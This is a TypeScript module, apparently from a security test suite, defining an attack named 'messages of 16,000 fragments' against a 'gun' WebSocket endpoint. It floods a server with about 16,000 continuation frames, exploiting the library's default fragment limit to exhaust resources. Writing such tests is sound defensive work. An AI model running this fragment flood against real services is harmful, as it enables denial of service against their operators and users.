// The library's default of 16,384 fragments for one message, each of which it keeps.
import { frame, OPCODE } from '../../../tracker/test/support/raw-client.ts';
import type { Attack } from '../attack.ts';
import { webSockets } from '../raw-socket.ts';

const first = frame('[', { opcode: OPCODE.text, isLast: false });
const more = Buffer.concat(
  Array.from({ length: 500 }, () => frame(' ', { opcode: OPCODE.continuation, isLast: false })),
);

export const attack: Attack = {
  id: '2a',
  title: 'messages of 16,000 fragments',
  service: 'gun',
  run: ({ port }) =>
    webSockets(
      port,
      async (socket) => {
        await socket.send(first);
        for (let part = 0; part < 32 && socket.isOpen; part++) await socket.send(more);
        await socket.closed;
      },
      { path: () => '/gun' },
    ),
};
